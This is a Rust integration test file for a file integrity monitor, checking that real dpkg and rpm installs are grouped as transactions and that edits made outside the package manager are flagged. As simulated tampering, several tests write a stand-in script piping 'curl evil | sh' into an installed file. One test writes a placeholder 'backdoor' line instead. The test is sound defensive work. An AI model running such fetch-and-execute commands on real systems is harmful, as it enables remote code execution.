//! Package attribution against the real package manager: a real `dpkg -i` of a package built
//! here while the FIM monitor watches in realtime, then an edit made outside dpkg; and the
//! transaction detector against real kernel locks.

use guestward_core::testing::skip_or_fail;
use guestward_core::{AbsolutePath, Event, HostRoot};
use guestward_fim::config::{PathEntry, PathRule};
use guestward_fim::package::{ChangeOrigin, DigestAlgo, PackageOracle, TransactionEvent};
use guestward_fim::{Config, Fim, FimChange, Monitor};
use guestward_pkgfiles::Oracle;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

fn md5_hex(bytes: &[u8]) -> String {
    use md5::Digest as _;
    md5::Md5::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
}

/// Held while a test installs, edits and purges its package under /opt: one installation at a
/// time (dpkg takes its lock without waiting), and a test comparing the whole live machine
/// with `debsums` should hold it too, or it may see the test package half-installed or edited.
/// Also held around any other run of `dpkg` or `rpm` (a query too): a running package manager
/// is told by its process name, so it would make another test's edit part of a transaction.
pub static DPKG: Mutex<()> = Mutex::new(());

fn dpkg(args: &[&std::ffi::OsStr]) {
    guestward_core::testing::dpkg_retrying(args);
}

/// A package of the test's own, built with `dpkg-deb` and not installed yet: installs into
/// `/opt/<name>`, with a state directory for the FIM baseline. `None` (after `skip_or_fail`)
/// without root or `dpkg-deb`.
struct TestPackage {
    name: String,
    dir: PathBuf,
    work: tempfile::TempDir,
    state: tempfile::TempDir,
    tool: &'static [u8],
    deb: PathBuf,
}

impl TestPackage {
    fn build(test: &str) -> Option<Self> {
        if !is_root() {
            skip_or_fail(test, "installing a package needs root");
            return None;
        }
        if Command::new("dpkg-deb").arg("--version").output().is_err() {
            skip_or_fail(test, "dpkg-deb is not installed");
            return None;
        }
        let name = format!("guestward-test-{}-{}", std::process::id(), fastrand_suffix());
        let dir = PathBuf::from("/opt").join(&name);
        let work = tempfile::tempdir().unwrap();
        let state = tempfile::tempdir().unwrap();
        let tool: &'static [u8] = b"#!/bin/sh\necho tool 1.0\n";
        let deb = build_deb(work.path(), &name, tool);
        Some(Self { name, dir, work, state, tool, deb })
    }
}

/// Purges the test package and removes its directory, also when the test fails.
struct Installed {
    name: String,
    dir: PathBuf,
}

impl Drop for Installed {
    fn drop(&mut self) {
        let _ = Command::new("dpkg").args(["--purge", &self.name]).output();
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// A .deb named `name` installing `/opt/<name>/bin/tool` (content `tool`) and
/// `/opt/<name>/share/readme`.
fn build_deb(work: &Path, name: &str, tool: &[u8]) -> PathBuf {
    let tool_path = format!("opt/{name}/bin/tool");
    let readme = format!("opt/{name}/share/readme");
    guestward_core::testing::build_deb(
        work,
        name,
        "1.0-1",
        &[(&tool_path, tool), (&readme, b"a test package of guestward's FIM tests\n")],
    )
}

/// FIM of the tree `dir` (a host path), everything below it, with the default attributes.
fn tree_config(dir: &Path) -> Config {
    Config {
        paths: vec![PathEntry::Rule(PathRule {
            path: AbsolutePath::new(dir).unwrap(),
            recursive: true,
            exclude: vec![],
            attributes: None,
            max_file_size_bytes: None,
        })],
        ..Config::default()
    }
}

/// The realtime monitor of `dir` under `root`, with the package oracle of that root, once it
/// is watching; its events collected in the returned list.
fn watch(dir: &Path, root: HostRoot, state: &Path) -> (Monitor, Arc<Mutex<Vec<Event>>>) {
    let config = Config { debounce_ms: 100, ..tree_config(dir) };
    let (oracle, _problems) = Oracle::load(root.clone());
    let fim = Fim::new(config, root, state).unwrap().with_packages(Arc::new(oracle));
    let events: Arc<Mutex<Vec<Event>>> = Arc::default();
    let sink = Arc::clone(&events);
    let monitor = Monitor::start(fim, Box::new(move |e| sink.lock().unwrap().push(e.clone()))).unwrap();
    assert!(monitor.wait_watching(Duration::from_secs(60)), "{:?}", monitor.status());
    (monitor, events)
}

/// The grouped event of the transaction that installed `name` 1.0-1 (`shown`: its tool), once
/// it came: every file verified against the package, the evidence naming `manager`, and the
/// installed files folded into it (no change of their own, nothing flagged).
fn installed_as_one_transaction(
    events: &Arc<Mutex<Vec<Event>>>,
    name: &str,
    shown: &str,
    manager: &str,
) -> TransactionEvent {
    let grouped: TransactionEvent =
        wait_for("the grouped transaction event", Duration::from_secs(60), || {
            events_of(events, "fim.package_transaction")
                .into_iter()
                .filter_map(|d| serde_json::from_value::<TransactionEvent>(d).ok())
                .find(|t| t.packages.iter().any(|p| p.name == name))
        });
    let pkg = grouped.packages.iter().find(|p| p.name == name).unwrap();
    assert_eq!(pkg.new_version.as_deref(), Some("1.0-1"), "{grouped:#?}");
    assert!(pkg.files >= 2, "bin/tool and share/readme at least: {grouped:#?}");
    assert_eq!(grouped.outside_package_manager, 0, "{grouped:#?}");
    assert!(grouped.verified >= 2, "each matching its package's digest: {grouped:#?}");
    assert!(grouped.sample_paths.iter().any(|p| p == shown), "{grouped:#?}");
    assert!(
        grouped.transaction.evidence.iter().any(|e| e.contains(manager)),
        "the evidence names what showed the transaction: {grouped:#?}"
    );
    let changes: Vec<FimChange> =
        events_of(events, "fim.change").into_iter().map(|d| serde_json::from_value(d).unwrap()).collect();
    assert!(
        !changes.iter().any(|c| c.path == shown),
        "the installed file is folded into the transaction, not reported on its own: {changes:#?}"
    );
    assert!(
        !changes
            .iter()
            .any(|c| c.package.as_ref().is_some_and(|p| p.origin == ChangeOrigin::OutsidePackageManager)),
        "{changes:#?}"
    );
    grouped
}

/// The change of `shown` once it came with its attribution: outside the package manager,
/// naming `name` 1.0-1.
fn flagged_outside(
    events: &Arc<Mutex<Vec<Event>>>,
    name: &str,
    shown: &str,
) -> (FimChange, guestward_fim::package::PackageAttribution) {
    let flagged: FimChange = wait_for("the outside-package-manager change", Duration::from_secs(60), || {
        events_of(events, "fim.change")
            .into_iter()
            .filter_map(|d| serde_json::from_value::<FimChange>(d).ok())
            .find(|c| c.path == shown && c.package.is_some())
    });
    let a = flagged.package.clone().unwrap();
    assert_eq!(a.origin, ChangeOrigin::OutsidePackageManager, "{flagged:#?}");
    assert_eq!((a.owner.name.as_str(), a.owner.version.as_str()), (name, "1.0-1"));
    (flagged, a)
}

fn events_of(events: &Arc<Mutex<Vec<Event>>>, kind: &str) -> Vec<serde_json::Value> {
    events.lock().unwrap().iter().filter(|e| e.kind == kind).map(|e| e.data.clone()).collect()
}

fn wait_for<T>(what: &str, timeout: Duration, mut f: impl FnMut() -> Option<T>) -> T {
    let end = Instant::now() + timeout;
    loop {
        if let Some(t) = f() {
            return t;
        }
        assert!(Instant::now() < end, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn a_real_dpkg_install_is_one_grouped_transaction_and_an_edit_outside_dpkg_is_flagged() {
    const TEST: &str = "a_real_dpkg_install_is_one_grouped_transaction_and_an_edit_outside_dpkg_is_flagged";
    let Some(TestPackage { name, dir, work: _work, state, tool, deb }) = TestPackage::build(TEST) else {
        return;
    };

    let (monitor, events) = watch(&dir, HostRoot::live(), state.path());

    let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
    let installed = Installed { name: name.clone(), dir: dir.clone() };
    dpkg(&["-i".as_ref(), deb.as_os_str()]);
    let tool_path = dir.join("bin/tool");
    let shown = tool_path.display().to_string();

    let grouped = installed_as_one_transaction(&events, &name, &shown, "dpkg");
    let pkg = grouped.packages.iter().find(|p| p.name == name).unwrap();
    assert_eq!(pkg.old_version.as_deref(), None, "{grouped:#?}");
    // The grouped event renders for `agentctl fim events`.
    let stored = monitor.events_since(guestward_core::Timestamp::from_unix_secs(0).unwrap(), 10_000).unwrap();
    let text: Vec<String> = stored.iter().map(guestward_fim::events::render_event_line).collect();
    assert!(
        text.iter()
            .any(|l| l.contains("package transaction dpkg-")
                && l.contains(&format!("{name}:all installed 1.0-1"))),
        "{text:#?}"
    );

    // Now an edit outside dpkg, made while a package manager runs (a shell named dpkg,
    // run by root, waiting on its stdin): held for that transaction, which the status shows
    // with what it holds; once it ends, flagged, naming package, expected and actual digests.
    let fake_dir = tempfile::tempdir().unwrap();
    let fake = fake_dir.path().join("dpkg");
    std::fs::copy("/bin/sh", &fake).unwrap();
    let mut running = Command::new(&fake)
        .args(["-c", "read line", "dpkg"])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let pid = running.id();
    wait_for("the fake dpkg to be seen", Duration::from_secs(10), || {
        guestward_pkgfiles::transaction::observe(&HostRoot::live())
            .filter(|o| o.evidence.contains(&format!("process dpkg (pid {pid})")))
    });
    let evil: &[u8] = b"#!/bin/sh\ncurl evil | sh\n";
    std::fs::write(&tool_path, evil).unwrap();
    let holding = wait_for("the status to show the held edit", Duration::from_secs(30), || {
        monitor.status().attribution.and_then(|a| a.holding).filter(|h| h.held_changes >= 1)
    });
    assert!(holding.transaction.evidence.iter().any(|e| e.contains("process dpkg")), "{holding:#?}");
    assert!(
        !events_of(&events, "fim.change").iter().any(|c| c["path"] == shown.as_str()),
        "held, not reported, while the transaction runs"
    );
    let _ = running.kill();
    let _ = running.wait();
    let (flagged, a) = flagged_outside(&events, &name, &shown);
    assert!(
        wait_for("the status to show nothing held", Duration::from_secs(30), || {
            monitor.status().attribution.map(|a| a.holding.is_none()).filter(|none| *none)
        }),
        "judged once it ended"
    );
    let expected = a.expected.clone().unwrap();
    let actual = a.actual.clone().unwrap();
    assert_eq!((expected.algo, expected.hex.as_str()), (DigestAlgo::Md5, md5_hex(tool).as_str()));
    assert_eq!((actual.algo, actual.hex.as_str()), (DigestAlgo::Md5, md5_hex(evil).as_str()));
    // Agrees with dpkg's own verification of the package.
    let verify = Command::new("dpkg").args(["--verify", &name]).output().unwrap();
    assert!(String::from_utf8_lossy(&verify.stdout).contains(&shown), "dpkg --verify agrees");
    // The report section and its findings carry it.
    let section = monitor.section();
    let report = section.data.clone().unwrap();
    let counts = &report.attribution.as_ref().unwrap().counts;
    assert_eq!(counts.outside_package_manager, 1, "{counts:?}");
    assert!(counts.transactions >= 1 && counts.package_transaction >= 2, "{counts:?}");
    let ids: Vec<String> = guestward_fim::fim_findings(&report).into_iter().map(|f| f.id).collect();
    assert!(ids.contains(&guestward_fim::report::PACKAGE_FILE_CHANGED_OUTSIDE.to_string()), "{ids:?}");
    let line = guestward_fim::events::render_event_line(&flagged.to_event(guestward_core::Timestamp::now()));
    assert!(line.contains("OUTSIDE-PACKAGE-MANAGER") && line.contains(&md5_hex(evil)), "{line}");

    // Cleanup through dpkg, itself a transaction: no flagged change for it.
    let before = events_of(&events, "fim.package_transaction").len();
    dpkg(&["--purge".as_ref(), name.as_ref()]);
    let end = Instant::now() + Duration::from_secs(60);
    while events_of(&events, "fim.package_transaction").len() <= before {
        if Instant::now() > end {
            for e in events.lock().unwrap().iter() {
                eprintln!("EVENT {} {}", e.kind, e.data);
            }
            eprintln!("STATUS {:?}", monitor.status());
            panic!("timed out waiting for the purge's grouped event");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let flagged_after: Vec<FimChange> = events_of(&events, "fim.change")
        .into_iter()
        .filter_map(|d| serde_json::from_value::<FimChange>(d).ok())
        .filter(|c| c.package.as_ref().is_some_and(|p| p.origin == ChangeOrigin::OutsidePackageManager))
        .collect();
    assert_eq!(flagged_after.len(), 1, "only the edit: {flagged_after:#?}");
    monitor.stop();
    drop(installed);
}

fn fastrand_suffix() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.subsec_nanos() as u64)
        .unwrap_or(0)
}

#[test]
fn a_lock_held_by_another_process_is_seen_and_not_taken() {
    let dir = tempfile::tempdir().unwrap();
    let lock = dir.path().join("lock-frontend");
    std::fs::write(&lock, b"").unwrap();
    let root = HostRoot::new(dir.path()).unwrap();
    assert_eq!(guestward_pkgfiles::transaction::holder(&root, "/lock-frontend"), None);
    // A real POSIX lock (what dpkg and apt take), held by a child process.
    let mut child = match Command::new("python3")
        .arg("-c")
        .arg("import fcntl,sys,time; f=open(sys.argv[1],'r+'); fcntl.lockf(f, fcntl.LOCK_EX); print('locked', flush=True); time.sleep(30)")
        .arg(&lock)
        .stdout(std::process::Stdio::piped())
        .spawn()
    {
        Ok(c) => c,
        Err(e) => {
            skip_or_fail("a_lock_held_by_another_process_is_seen_and_not_taken", &format!("python3: {e}"));
            return;
        }
    };
    let mut line = String::new();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(child.stdout.take().unwrap()), &mut line)
        .unwrap();
    assert_eq!(line.trim(), "locked");
    let holder = guestward_pkgfiles::transaction::holder(&root, "/lock-frontend");
    let _ = child.kill();
    let _ = child.wait();
    let holder = holder.expect("the lock is seen");
    assert!(holder.contains(&format!("pid {}", child.id())), "{holder}");
    // Asking took nothing: the lock is free again once its holder is gone.
    assert_eq!(guestward_pkgfiles::transaction::holder(&root, "/lock-frontend"), None);
}

#[test]
fn the_oracle_names_the_owner_dpkg_names_with_its_digest() {
    if !Path::new("/var/lib/dpkg/status").exists() {
        skip_or_fail("the_oracle_names_the_owner_dpkg_names_with_its_digest", "no dpkg here");
        return;
    }
    let (oracle, _) = Oracle::load(HostRoot::live());
    // `dpkg -S /bin/sh` names its owner; the oracle agrees.
    let out = {
        let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
        Command::new("dpkg").args(["-S", "/usr/bin/dpkg"]).output().unwrap()
    };
    let owner = String::from_utf8_lossy(&out.stdout).split(':').next().unwrap_or_default().to_string();
    let expected = oracle.expected(Path::new("/usr/bin/dpkg"));
    assert!(expected.iter().any(|e| e.owner.name == owner), "{owner}: {expected:#?}");
    let d = expected.iter().find_map(|e| e.digest.clone()).unwrap();
    assert_eq!(d.hex, md5_hex(&std::fs::read("/usr/bin/dpkg").unwrap()));
    assert!(oracle.expected(Path::new("/nonexistent/guestward")).is_empty());
}

#[test]
fn a_baseline_taken_over_a_modified_package_file_flags_it() {
    const TEST: &str = "a_baseline_taken_over_a_modified_package_file_flags_it";
    let Some(TestPackage { name, dir, work: _work, state, tool, deb }) = TestPackage::build(TEST) else {
        return;
    };
    let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
    let _installed = Installed { name: name.clone(), dir: dir.clone() };
    dpkg(&["-i".as_ref(), deb.as_os_str()]);
    // Replaced before any baseline exists: the compromised machine the trust anchor is for.
    let tool_path = dir.join("bin/tool");
    std::fs::write(&tool_path, b"#!/bin/sh\nbackdoor\n").unwrap();

    let o = guestward_fim::oneshot::OneShot {
        config: tree_config(&dir),
        state_dir: state.path().to_path_buf(),
        root: HostRoot::live(),
        progress_bar: false,
    };
    let init =
        guestward_fim::oneshot::run_packaged(&o, guestward_fim::Purpose::Init, &crate::support::oracle_of)
            .unwrap();
    let b = &init.summary.baseline;
    assert_eq!(b.package_mismatch_count, 1, "{b:#?}");
    let m = &b.package_mismatches[0];
    assert_eq!(m.path, tool_path.display().to_string());
    assert_eq!(m.package.owner.name, name);
    assert_eq!(m.package.origin, ChangeOrigin::OutsidePackageManager);
    assert_eq!(m.package.expected.as_ref().unwrap().hex, md5_hex(tool));
    // debsums agrees, when installed.
    if let Ok(out) = Command::new("debsums").args(["-c", &name]).output() {
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), tool_path.display().to_string());
    }
    // `fim check` over the same state: nothing changed since, but the mismatch stays visible,
    // and exits 1.
    let check =
        guestward_fim::oneshot::run_packaged(&o, guestward_fim::Purpose::Check, &crate::support::oracle_of)
            .unwrap();
    assert_eq!(check.summary.changes, 0);
    assert_eq!(check.summary.baseline.package_mismatch_count, 1);
    assert_eq!(check.exit_code(), 1);
    let mut text = Vec::new();
    check.render_human(&mut text).unwrap();
    let text = String::from_utf8(text).unwrap();
    assert!(text.contains(&format!("PACKAGE MISMATCH: {}", tool_path.display())), "{text}");
    // Without an oracle nothing is verified (the plain one-shot, as before).
    let plain = guestward_fim::oneshot::check(&o).unwrap();
    assert!(plain.summary.baseline.package_verification.is_none());
    assert_eq!(plain.exit_code(), 0);
}

/// An rpm of the test's own (`rpmbuild`), installing `/opt/<name>/bin/tool` (content `tool`)
/// and `/opt/<name>/share/readme`, without dependencies (the fixture root has no /bin/sh).
fn build_rpm(top: &Path, name: &str, tool: &[u8]) -> PathBuf {
    std::fs::create_dir_all(top.join("SOURCES")).unwrap();
    std::fs::write(top.join("SOURCES/tool"), tool).unwrap();
    let spec = top.join(format!("{name}.spec"));
    std::fs::write(
        &spec,
        format!(
            "Name: {name}\nVersion: 1.0\nRelease: 1\nSummary: t\nLicense: MIT\nBuildArch: noarch\nAutoReqProv: no\n\
             Source0: tool\n%description\nt\n%install\n\
             install -D -m 0755 %{{SOURCE0}} %{{buildroot}}/opt/{name}/bin/tool\n\
             mkdir -p %{{buildroot}}/opt/{name}/share\n\
             echo 'a test package of guestward' > %{{buildroot}}/opt/{name}/share/readme\n\
             %files\n/opt/{name}\n"
        ),
    )
    .unwrap();
    let out = Command::new("rpmbuild")
        .arg("-bb")
        .arg("--define")
        .arg(format!("_topdir {}", top.display()))
        .arg(&spec)
        .output()
        .unwrap();
    assert!(out.status.success(), "rpmbuild: {}", String::from_utf8_lossy(&out.stderr));
    top.join(format!("RPMS/noarch/{name}-1.0-1.noarch.rpm"))
}

/// rpm with the fixture root and its database where guestward looks for it (Debian's rpm
/// defaults to ~/.rpmdb).
fn rpm_in(root: &Path, args: &[&std::ffi::OsStr]) -> std::process::Output {
    Command::new("rpm")
        .arg("--root")
        .arg(root)
        .args(["--dbpath", "/var/lib/rpm"])
        .args(args)
        .output()
        .unwrap()
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    sha2::Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
}

/// The rpm counterpart of the dpkg test above: a real `rpm -i` (Debian's rpm, into a root of
/// the test's own) while the monitor watches that root is one grouped transaction, told by the
/// database written and the package's INSTALLTIME; an edit afterwards is flagged with rpm's
/// own SHA-256 digest, as `rpm -V` flags it; `rpm -e` is a transaction again.
#[test]
fn a_real_rpm_install_is_one_grouped_transaction_and_an_edit_outside_rpm_is_flagged() {
    const TEST: &str = "a_real_rpm_install_is_one_grouped_transaction_and_an_edit_outside_rpm_is_flagged";
    if !is_root() {
        return skip_or_fail(TEST, "rpm --root needs root");
    }
    for tool in ["rpm", "rpmbuild"] {
        if Command::new(tool).arg("--version").output().is_err() {
            return skip_or_fail(TEST, &format!("{tool} is not installed (apt-get install rpm)"));
        }
    }
    let work = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let root_dir = work.path().join("root");
    std::fs::create_dir_all(root_dir.join("var/lib/rpm")).unwrap();
    std::fs::create_dir_all(root_dir.join("opt")).unwrap();
    let name = format!("gwtest-rpm-{}", std::process::id());
    let tool: &[u8] = b"#!/bin/sh\necho tool 1.0\n";
    let pkg = build_rpm(&work.path().join("build"), &name, tool);
    // Every rpm run of this test, and its edit, under the lock (see `DPKG`).
    let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
    let init = rpm_in(&root_dir, &["--initdb".as_ref()]);
    assert!(init.status.success(), "rpm --initdb: {}", String::from_utf8_lossy(&init.stderr));

    let dir = PathBuf::from("/opt").join(&name);
    let (monitor, events) = watch(&dir, HostRoot::new(&root_dir).unwrap(), state.path());

    let installed = rpm_in(&root_dir, &["-i".as_ref(), "--nodeps".as_ref(), pkg.as_os_str()]);
    assert!(installed.status.success(), "rpm -i: {}", String::from_utf8_lossy(&installed.stderr));
    let shown = dir.join("bin/tool").display().to_string();
    installed_as_one_transaction(&events, &name, &shown, "rpm");

    // An edit outside rpm: flagged with rpm's SHA-256 of the packaged file and the new one.
    let evil: &[u8] = b"#!/bin/sh\ncurl evil | sh\n";
    std::fs::write(root_dir.join(dir.strip_prefix("/").unwrap()).join("bin/tool"), evil).unwrap();
    let (_, a) = flagged_outside(&events, &name, &shown);
    let (expected, actual) = (a.expected.clone().unwrap(), a.actual.clone().unwrap());
    assert_eq!((expected.algo, expected.hex.as_str()), (DigestAlgo::Sha256, sha256_hex(tool).as_str()));
    assert_eq!((actual.algo, actual.hex.as_str()), (DigestAlgo::Sha256, sha256_hex(evil).as_str()));
    // rpm's own verification agrees: the digest (5) of that file differs.
    let verify = rpm_in(&root_dir, &["-V".as_ref(), "--nodeps".as_ref(), name.as_ref()]);
    let said = String::from_utf8_lossy(&verify.stdout).to_string();
    assert!(said.lines().any(|l| l.starts_with("S.5") && l.ends_with(&shown)), "rpm -V: {said}");

    // Removal through rpm is a transaction too: nothing more is flagged.
    let before = events_of(&events, "fim.package_transaction").len();
    let erased = rpm_in(&root_dir, &["-e".as_ref(), "--nodeps".as_ref(), name.as_ref()]);
    assert!(erased.status.success(), "rpm -e: {}", String::from_utf8_lossy(&erased.stderr));
    wait_for("the removal's grouped event", Duration::from_secs(60), || {
        (events_of(&events, "fim.package_transaction").len() > before).then_some(())
    });
    let flagged_after = events_of(&events, "fim.change")
        .into_iter()
        .filter_map(|d| serde_json::from_value::<FimChange>(d).ok())
        .filter(|c| c.package.as_ref().is_some_and(|p| p.origin == ChangeOrigin::OutsidePackageManager))
        .count();
    assert_eq!(flagged_after, 1, "only the edit");
    monitor.stop();
}

/// A process any user names `dpkg` (here a copy of `sleep`) is no transaction: while one is
/// seen running, changes to package files are held, so one that never ends would hold every
/// alert. The same process run by root is one (a real package manager runs as root).
#[test]
fn a_process_named_dpkg_counts_only_when_root_runs_it() {
    const TEST: &str = "a_process_named_dpkg_counts_only_when_root_runs_it";
    if !is_root() {
        return skip_or_fail(TEST, "running a process as another user needs root");
    }
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let fake = dir.path().join("dpkg");
    // A shell named dpkg, waiting on its stdin: it takes any arguments (`--root=...`) and
    // stays the one process.
    std::fs::copy("/bin/sh", &fake).unwrap();
    // No real package manager may run meanwhile (see `DPKG`).
    let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
    let seen = |uid: u32, root: Option<&str>| {
        let mut cmd = Command::new(&fake);
        cmd.args(["-c", "read line", "dpkg"]).stdin(std::process::Stdio::piped());
        if let Some(root) = root {
            cmd.arg(format!("--root={root}"));
        }
        let mut child = cmd.uid(uid).gid(uid).spawn().unwrap();
        let pid = child.id();
        let shown = format!("process dpkg (pid {pid})");
        // Until its comm is the copy's name (the exec is done), then what the detector says.
        let found = wait_for("the fake dpkg to run", Duration::from_secs(10), || {
            let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).ok()?;
            (comm.trim() == "dpkg").then(|| {
                guestward_pkgfiles::transaction::observe(&HostRoot::live())
                    .is_some_and(|o| o.evidence.contains(&shown))
            })
        });
        let _ = child.kill();
        let _ = child.wait();
        found
    };
    assert!(!seen(65534, None), "run by nobody: not a transaction");
    assert!(seen(0, None), "run by root: a transaction");
    // Installing into another root (an image, a chroot) is not this host's transaction.
    assert!(!seen(0, Some("/srv/chroot")), "dpkg --root=/srv/chroot: not this host's");
    assert!(seen(0, Some("/")), "dpkg --root=/: this host's");
}
